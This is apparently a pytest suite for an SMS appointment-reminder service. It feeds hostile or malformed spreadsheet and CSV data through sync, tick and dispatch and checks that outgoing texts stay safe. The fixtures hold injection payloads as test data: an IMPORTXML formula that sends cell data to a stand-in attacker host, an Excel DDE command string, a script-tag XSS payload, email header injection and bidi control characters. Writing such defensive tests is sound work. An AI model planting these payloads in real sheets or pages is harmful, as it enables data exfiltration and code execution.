"""Whole sheets that no shop would write and some will: each ends in a message to staff or in a safe send.

Single cells, ids and markup are in test_security_sheet.py; here are the classes of the files themselves, played
through sync, tick and dispatch, and what a plain run of the headless command makes of them.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest

from chalicelib.adapters.google_credentials import GoogleApi
from chalicelib.adapters.google_sheet import GoogleSheet
from chalicelib.domain.csv_text import read_csv
from chalicelib.domain.sheet import MOST_ROWS
from chalicelib.domain.sms import segments
from chalicelib.usecases.dispatch_move import dispatch_move
from chalicelib.usecases.run_tick import run_tick
from chalicelib.usecases.sync_drive import sync_drive
from local.standins.google import SHEET_ID, GoogleStandIn
from tests.fakes.runtime import FakeRuntime
from tests.functional.sync_world import HEADER, NOW, WED, a_row, a_shop, a_synced_shop, mirror, paste

ROOT = Path(__file__).parents[2]
BASE = "https://r.bright.sg/r/"
REX = a_row("other", customer="Rex", phone="+6598765432", staff="Tan")

NAMES = {
    "line breaks": "Mei\r\nTan\n\nBcc: rex@evil.example",
    "a formula": '=IMPORTXML("https://evil.example/?"&A1,"//x")',
    "a formula of Excel's": "=cmd|' /C calc'!A0",
    "plus": "+65 1234",
    "at": "@SUM(1+1)*cmd",
    "HTML": "<script>alert(1)</script><a href='https://evil.example'>Mei</a>",
    "right to left": "\u202eieM\u202c \u200f\u061cمريم",
    "a zero width space": "M\u200be\u2060i",
    "emoji": "Mei 👩‍👩‍👧‍👦🇸🇬💉",
    "10,000 characters": "M" * 10_000,
    "10,000 letters of three bytes": "预" * 10_000,
    "quotes and separators": 'Mei "The, Tooth"; Tan\t|',
    "placeholders": "{link} {customer} {0} %s ${x}",
    "nothing but marks": "\u200b\u202e\u2066",
    "control characters": "Mei\x00\x07\x1b[2J\x85",
}
URLS = ("https://evil.example/pay", "evil.com/x", "www.evil.example", "HTTPS://EVIL.EXAMPLE", "evil。com")


def played(rt: FakeRuntime) -> list[str]:
    """The tick and dispatch 48 hours before the visits; what dispatch said of each send."""
    rt.clock.now = WED - timedelta(hours=48)
    sync_drive(rt)
    rt.bus.moves.clear()
    run_tick(rt)
    return [dispatch_move(rt, move) for move in list(rt.bus.moves)]


def assert_safe(rt: FakeRuntime) -> None:
    """Every text has our link and no other, on one screen; no line to staff is endless."""
    for _, text in rt.sms.texts:
        assert text.count("://") == text.count(BASE) == 1
        for evil in ("evil.example", "evil.com", "evil。com"):
            assert evil not in text.casefold()
        assert not any(ord(letter) < 32 or letter in "\u202e\u200b\u2028\x85" for letter in text)
        assert segments(text).count <= 4
    assert all(len(line) < 3000 for line in rt.staff.texts)


# ---------------------------------------------------------------- cells


@pytest.mark.parametrize("name", NAMES)
def test_a_name_of_any_kind_is_a_safe_text_or_a_line_to_staff_and_stops_nobody(name: str) -> None:
    rt = a_synced_shop(a_row(customer=NAMES[name]), REX)
    played(rt)
    assert_safe(rt)
    numbers = [phone for phone, _ in rt.sms.texts]
    assert "+6598765432" in numbers
    assert "+6591234567" in numbers or any("A-1" in line or "row 2" in line for line in rt.staff.texts)


@pytest.mark.parametrize("url", URLS)
def test_an_address_in_every_cell_at_once_reaches_no_text(url: str) -> None:
    """All that can be typed into one row; what isn't readable with it is a problem that staff are told of."""
    for column in HEADER[1:]:
        rt = a_synced_shop(a_row(**{column: url}), REX)
        played(rt)
        assert_safe(rt)
        assert "+6598765432" in [phone for phone, _ in rt.sms.texts]
    rt = a_synced_shop([url] * len(HEADER), REX)
    played(rt)
    assert_safe(rt)
    assert [phone for phone, _ in rt.sms.texts] == ["+6598765432"]
    assert any("row 2" in line for line in rt.staff.texts)


def test_the_link_column_is_the_only_cell_whose_address_goes_out_and_only_where_the_voice_doc_asks() -> None:
    voice = "First reminder, text:\n{shop}: {day} {time}. {link} {booking_link}\n"
    header = [*HEADER, "link", "notes"]
    rt = a_shop(voice=voice)
    rt.sheet.paste([header, [*a_row(), "https://bright.example/b/17", "https://evil.example"]])
    sync_drive(rt)
    played(rt)
    ((_, text),) = rt.sms.texts
    assert "https://bright.example/b/17" in text
    assert "evil" not in text


def test_every_hostile_name_at_once_is_a_sheet_like_any_other() -> None:
    rows = [
        a_row(f"A-{n}", customer=name, phone=f"+659123450{n:01}" if n < 10 else f"+65912345{n}", staff=f"Dr {n}")
        for n, name in enumerate(NAMES.values())
    ]
    rt = a_synced_shop(*rows, REX)
    played(rt)
    assert_safe(rt)
    assert "+6598765432" in [phone for phone, _ in rt.sms.texts]
    assert len(mirror(rt)) == len(rows) + 1


# ---------------------------------------------------------------- headers


@pytest.mark.parametrize(
    "header",
    [
        ["编号", "客户", "电话", "邮箱", "服务", "员工", "日期", "时间", "状态"],
        ["Nummer", "Kunde", "Telefon", "E-Mail", "Leistung", "Mitarbeiter", "Datum", "Uhrzeit", "Status"],
        ["<html><body>Sign in", "", "", "", "", "", "", "", ""],
        ["#REF!"] * 9,
        ["=A1"] * 9,
        ["\u202e" + name for name in ("di", "x", "y", "z", "a", "b", "c", "d", "e")],
        ["customer" * 5000] * 9,
    ],
)
def test_a_header_that_is_not_ours_changes_nothing_and_is_told_with_what_was_expected(header: list[str]) -> None:
    rt = a_synced_shop(a_row())
    rt.sheet.paste([header, a_row(date="3 Dec 2026")])
    rt.clock.forward(minutes=5)
    sync_drive(rt)
    (line,) = rt.staff.texts
    assert "doesn't look like one" in line
    assert len(line) < 1500
    assert [row.start for row in mirror(rt)] == [WED]
    played(rt)
    assert len(rt.sms.texts) == 1


def test_a_header_in_another_language_says_which_columns_are_wanted() -> None:
    rt = a_synced_shop(a_row())
    rt.sheet.paste([["编号", "客户", "电话", "邮箱", "服务", "员工", "日期", "时间"], a_row()])
    rt.clock.forward(minutes=5)
    sync_drive(rt)
    assert "no column for customer, service, date, time, phone or email" in rt.staff.texts[-1]
    assert "客户" in rt.staff.texts[-1]


def test_a_header_in_other_letters_of_the_same_words_is_ours() -> None:
    """Full width, no-break spaces and odd case are how spreadsheets come back from other programs."""
    rt = a_shop()
    rt.sheet.paste(
        [["ＩＤ", "Client\u00a0Name", "MOBILE", "E-Mail", "Treatment", "With", "DATE ", "Time"], a_row()[:8]]
    )
    sync_drive(rt)
    played(rt)
    assert len(rt.sms.texts) == 1


# ---------------------------------------------------------------- size


def a_long_sheet(count: int) -> list[list[str]]:
    """So many visits of long ago, and Mei's."""
    old = [a_row(f"A-{n}", date="2 Jan 2024", staff=f"Dr {n % 7}") for n in range(2, count + 1)]
    return [*old, a_row()]


def test_a_sheet_of_200_000_rows_is_told_and_the_last_good_list_stays_in_force() -> None:
    rt = a_synced_shop(a_row())
    paste(rt, *a_long_sheet(200_000))
    assert f"has more than {MOST_ROWS:,} rows" in rt.staff.texts[-1]
    assert len(mirror(rt)) == 1
    played(rt)
    assert len(rt.sms.texts) == 1


def test_a_sheet_of_200_000_rows_is_not_read_whole() -> None:
    """Memory: one row more than may be taken is enough to say so."""
    asked: list[str] = []

    class Values:
        def get(self, spreadsheetId: str, range: str, **_: str) -> dict[str, object]:
            asked.append(range)
            return {"values": [["x"]] * (MOST_ROWS + 2)}

    class Sheets:
        def get(self, spreadsheetId: str, fields: str) -> dict[str, object]:
            assert "rowCount" in fields
            return {"sheets": [{"properties": {"title": "Visits", "gridProperties": {"rowCount": 200_001}}}]}

    class Google:
        values, sheets = Values(), Sheets()

        def call(self, ask: object) -> object:
            return ask()  # type: ignore[operator]

    assert len(GoogleSheet(Google(), "sheet").read()) == MOST_ROWS + 2  # type: ignore[arg-type]
    assert asked == [f"'Visits'!1:{MOST_ROWS + 2}"]


@pytest.mark.parametrize(("rows", "read"), [(1, 2), (3, 4), (4, 5), (2000, 5)])
def test_of_too_long_a_sheet_one_row_too_many_is_read_over_the_wire(
    rows: int, read: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With a limit of three rows; the stand-in refuses a range beyond the grid, as Google does."""
    monkeypatch.setattr("chalicelib.adapters.google_sheet.MOST_ROWS", 3)
    with GoogleStandIn(lambda: NOW) as google:
        google.paste([HEADER, *a_long_sheet(rows)])
        found = GoogleSheet(GoogleApi(google.service_account, google.url), SHEET_ID).read()
    assert len(found) == read


def test_a_long_sheet_within_the_limit_is_taken_and_its_last_row_reminded() -> None:
    rt = a_synced_shop(*a_long_sheet(10_000))
    assert played(rt) == ["sent by text"]


def test_thirty_thousand_blank_rows_are_no_rows() -> None:
    rt = a_shop()
    rt.sheet.paste([HEADER, a_row(), *([""] * 9 for _ in range(30_000)), REX])
    sync_drive(rt)
    assert [row.line for row in mirror(rt)] == [2, 30_003]


def test_ten_thousand_columns_are_carried_and_change_nothing() -> None:
    rt = a_shop()
    rt.sheet.paste([[*HEADER, *(f"c{n}" for n in range(10_000))], [*a_row(), *(["x"] * 10_000)]])
    sync_drive(rt)
    assert played(rt) == ["sent by text"]


# ---------------------------------------------------------------- files of Excel's


def as_csv(separator: str) -> str:
    """Two visits as a spreadsheet exports them."""
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=separator).writerows([HEADER, a_row(customer="Zoë; Müller, 陈"), REX])
    return out.getvalue()


EXCEL = {
    "UTF-16 with tabs": as_csv("\t").encode("utf-16"),
    "UTF-16 with semicolons": as_csv(";").encode("utf-16"),
    "big-endian UTF-16": b"\xfe\xff" + as_csv(";").encode("utf-16-be"),
    "UTF-16 without a mark": as_csv(";").encode("utf-16-le"),
    "UTF-8 with its mark and semicolons": as_csv(";").encode("utf-8-sig"),
    "sep= and its mark": ("sep=;\r\n" + as_csv(";")).encode("utf-8-sig"),
    "old line ends": as_csv(",").replace("\r\n", "\r").encode(),
}


@pytest.mark.parametrize("name", EXCEL)
def test_a_file_that_excel_wrote_is_read_and_its_customers_reminded(name: str) -> None:
    rt = a_shop()
    rt.sheet.paste(read_csv(EXCEL[name]))
    sync_drive(rt)
    assert mirror(rt)[0].values["customer"] == "Zoë; Müller, 陈"
    assert played(rt) == ["sent by text"] * 2
    assert_safe(rt)


# ---------------------------------------------------------------- the same from outside


def headless(folder: Path, sheet: bytes) -> tuple[int, str, dict[str, object]]:
    """Two hours of a shop that has this file: exit status, what was said, the report."""
    (folder / "sheet.csv").write_bytes(sheet)
    (folder / "rules.txt").write_text("Dental cleaning: 48 hours.\nEverything else: 48 hours.\n")
    flags = ["--sheet", "sheet.csv", "--rules", "rules.txt", "--json", "out.json"]
    flags += ["--timezone", "Asia/Singapore", "--country", "SG", "--from", "2026-11-30T09:00", "--hours", "2"]
    done = subprocess.run(
        [sys.executable, "-m", "local", "--headless", *flags],
        cwd=folder,
        env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin", "PYTHONTZPATH": ""},
        capture_output=True,
        text=True,
        timeout=240,
    )
    out = folder / "out.json"
    return done.returncode, done.stderr, json.loads(out.read_text()) if out.exists() else {}


@pytest.mark.ministack
def test_every_hostile_name_in_a_file_of_excel_s_ends_in_a_report_without_an_address_of_theirs(tmp_path: Path) -> None:
    out = io.StringIO(newline="")
    rows = [
        a_row(f"A-{n}", customer=name, phone=f"+65912345{n:02}", staff=f"Dr {n}")
        for n, name in enumerate(NAMES.values())
    ]
    first_seen = ["2026-11-20T09:00+08:00"] * len(rows)
    with_sight = [[*row, seen] for row, seen in zip(rows, first_seen, strict=True)]
    csv.writer(out, delimiter=";").writerows([[*HEADER, "first_seen"], *with_sight])
    status, said, report = headless(tmp_path, out.getvalue().encode("utf-16"))
    assert (status, "Traceback" in said) == (0, False)
    counts, events = report["counts"], report["events"]
    assert (counts["duplicates"], counts["lost"]) == (0, 0)  # type: ignore[index]
    texts = [event["body"] for event in events if event["kind"] == "text"]  # type: ignore[attr-defined]
    assert len(texts) >= len(NAMES) - 2
    assert all("evil" not in text and "\n" not in text and "\u202e" not in text for text in texts)


@pytest.mark.parametrize(
    ("sheet", "expected"),
    [
        ("编号,客户,电话\r\n1,陈,91234567\r\n".encode(), "no column for customer, service, date, time"),
        (b"<!DOCTYPE html><html><title>Sign in</title>", "web page"),
        (b"", "empty"),
        (b"\x00\x01\x02" * 1000, "sheet.csv"),
        (",".join(HEADER).encode() + b"\r\n" + b"A,M,1,,S,T,D,T,\r\n" * 200_000, f"more than {MOST_ROWS:,} rows"),
    ],
    ids=["another language", "a login page", "nothing", "bytes", "200,000 rows"],
)
def test_a_file_that_is_not_the_sheet_ends_the_run_with_its_name_and_what_was_expected(
    tmp_path: Path, sheet: bytes, expected: str
) -> None:
    status, said, _ = headless(tmp_path, sheet)
    assert status == 2
    assert "sheet.csv" in said and expected in said
    assert "Traceback" not in said


def test_the_shop_of_these_tests_is_reminded_when_nothing_is_hostile() -> None:
    rt = a_synced_shop(a_row(), REX)
    assert NOW < WED
    assert played(rt) == ["sent by text"] * 2
    assert_safe(rt)
